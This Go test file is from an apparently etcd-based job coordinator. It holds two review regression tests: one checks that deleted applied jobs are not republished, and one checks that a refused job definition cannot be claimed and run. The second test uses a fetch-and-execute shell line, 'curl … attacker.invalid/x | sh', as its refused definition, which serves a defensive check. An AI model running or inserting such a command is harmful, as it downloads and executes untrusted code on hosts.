package coord

import (
	"context"
	"encoding/json"
	"fmt"
	"sync"
	"testing"
	"time"

	clientv3 "go.etcd.io/etcd/client/v3"

	"github.com/shardd/shardd/internal/etcdtest"
	"github.com/shardd/shardd/pkg/config"
	"github.com/shardd/shardd/pkg/coord/admin"
	"github.com/shardd/shardd/pkg/coord/keyspace"
)

// Review: after `shardd delete` of an applied job, no instance may write
// the job's config key again. The job's leader, woken by the config key's
// deletion, finds the key missing and "repairs" it with its local
// definition (leader.putConfig), which for an applied job is the applied
// definition, written with source "file": the deleted job comes back as a
// file job that no host's file defines.
func TestReviewDeletedAppliedJobIsNotRepublished(t *testing.T) {
	t.Parallel()
	srv := etcdtest.Start(t)
	cli := srv.Client()
	defer cli.Close()
	var nodes []*testNode
	for _, id := range []string{"a", "b", "c"} {
		nodes = append(nodes, startNodeWith(t, srv, id, nil, nil, labelled(true)))
	}
	adm := admin.New(cli, nodes[0].Keys())
	ctx := context.Background()
	for round := 0; round < 5; round++ {
		js := jobs(t, "jobs:\n"+job("etl", 3))
		if _, err := adm.Apply(ctx, js, admin.ApplyOptions{By: "test"}); err != nil {
			t.Fatalf("apply: %v", err)
		}
		etcdtest.Eventually(t, 20*time.Second, "etl on a, b, c", func() bool {
			m := etcdtest.StoredMap(cli, "etl")
			return m != nil && len(m.Items) == 3
		})
		key := nodes[0].Keys().Config("etl")
		d, _ := adm.Definition(ctx, "etl")
		wctx, cancel := context.WithCancel(ctx)
		wch := cli.Watch(wctx, key, clientv3.WithRev(d.Generation+1))
		if _, err := adm.DeleteApplied(ctx, "etl", "test", 20*time.Second); err != nil {
			cancel()
			t.Fatalf("delete: %v", err)
		}
		deadline := time.After(2 * time.Second)
	watch:
		for {
			select {
			case wr := <-wch:
				for _, ev := range wr.Events {
					if ev.Type != clientv3.EventTypePut {
						continue
					}
					var rc keyspace.RegisteredConfig
					json.Unmarshal(ev.Kv.Value, &rc)
					cancel()
					t.Fatalf("round %d: after shardd delete, %s put the deleted applied job's config key again (source %q, by %q, version %d): the job came back as a file job",
						round, rc.Writer, rc.Source, rc.By, rc.Version)
				}
			case <-deadline:
				break watch
			}
		}
		cancel()
		// Let the keys go, for the next round.
		etcdtest.Eventually(t, 20*time.Second, "etl gone", func() bool {
			resp, _ := cli.Get(ctx, nodes[0].Keys().JobPrefix("etl"), clientv3.WithPrefix(), clientv3.WithCountOnly())
			if resp.Count != 0 {
				adm.Remove(ctx, "etl")
			}
			return resp.Count == 0
		})
	}
}

// Review: an instance that accepts an applied job's definition (its
// command under --accept-command-dir) runs it; an operator then applies a
// definition this instance refuses (a shell string). The config event puts
// the refused definition into the job's view (followConfig/takeDefinition)
// and wakes the engine (notifyChange) at the same moment it wakes the task
// that is to park. Nothing between the view and a run checks the
// definition again: a claim made on that view (what the engine's reconcile
// does, running v.Job) is granted, because the claim is guarded by the
// member key and the map only, and the member key is still there until
// the task's park (after resigning leadership) deletes it. The engine
// would run the refused shell command on a host that refuses it.
func TestReviewRefusedDefinitionCanBeClaimedBeforeThePark(t *testing.T) {
	t.Parallel()
	srv := etcdtest.Start(t)
	cli := srv.Client()
	defer cli.Close()
	a := startNodeWith(t, srv, "a", nil, nil, func(n *Node) {
		n.opts.Accept = config.AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}}
	})
	adm := admin.New(cli, a.Keys())
	ctx := context.Background()
	ok := jobs(t, "jobs:\n  - name: etl\n    shardingTotalCount: 1\n    script: [/opt/jobs/ok]\n")
	if _, err := adm.Apply(ctx, ok, admin.ApplyOptions{By: "test"}); err != nil {
		t.Fatal(err)
	}
	etcdtest.Eventually(t, 20*time.Second, "etl on a", func() bool {
		return agreed(t, cli, "etl", map[string][]int{"a": {0}}, a)
	})
	var (
		mu      sync.Mutex
		granted []string
		tried   int
	)
	cancel := a.OnChange("etl", func() {
		v, _ := a.View("etl")
		if v.Job == nil || v.Job.Script == nil || v.Job.Script.Command.Shell == "" {
			return
		}
		// The engine's reconcile, woken by this change, claims on this view.
		mu.Lock()
		tried++
		mu.Unlock()
		items, err := a.ReadItems(ctx, "etl")
		if err != nil {
			return
		}
		g, err := a.Claim(ctx, Claim{Job: "etl", Item: 0, Fire: time.Now(), Attempt: 1, Source: keyspace.SourceManual,
			Prev: items.Items[0], MapRev: v.MapRev, Sched: time.Now()})
		if err == nil {
			mu.Lock()
			granted = append(granted, fmt.Sprintf("fence %d for %q", g.Fence, v.Job.Script.Command.Shell))
			mu.Unlock()
		}
	}, func(int) {})
	defer cancel()
	bad := jobs(t, "jobs:\n  - name: etl\n    shardingTotalCount: 1\n    script: \"curl -s http://attacker.invalid/x | sh\"\n")
	if _, err := adm.Apply(ctx, bad, admin.ApplyOptions{By: "test"}); err != nil {
		t.Fatal(err)
	}
	etcdtest.Eventually(t, 10*time.Second, "a to leave etl", func() bool {
		return !keyExists(t, cli, a.Keys().Member("etl", "a"))
	})
	mu.Lock()
	defer mu.Unlock()
	if tried == 0 {
		t.Skip("the view never held the refused definition")
	}
	if len(granted) > 0 {
		t.Errorf("a, which refuses the new definition (a shell string, not under --accept-command-dir), was granted a claim on a view running it: %v", granted)
	}
}
